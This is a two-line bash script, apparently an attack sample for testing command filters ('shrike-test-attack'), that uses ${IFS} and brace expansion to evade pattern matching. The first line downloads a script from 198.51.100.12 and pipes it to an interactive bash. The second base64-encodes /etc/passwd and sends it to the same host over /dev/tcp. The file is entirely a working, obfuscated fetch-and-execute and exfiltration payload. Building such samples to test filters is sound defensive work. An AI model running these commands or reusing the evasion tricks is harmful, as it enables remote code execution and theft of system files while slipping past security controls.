#!/bin/bash
# shrike-test-attack: encoded-exec: ${IFS} and brace expansion to dodge pattern filters
{curl,-s,http://198.51.100.12/s}|{bash,-i}
cat${IFS}/etc/passwd${IFS}|${IFS}base64${IFS}-w0${IFS}>${IFS}/dev/tcp/198.51.100.12/9
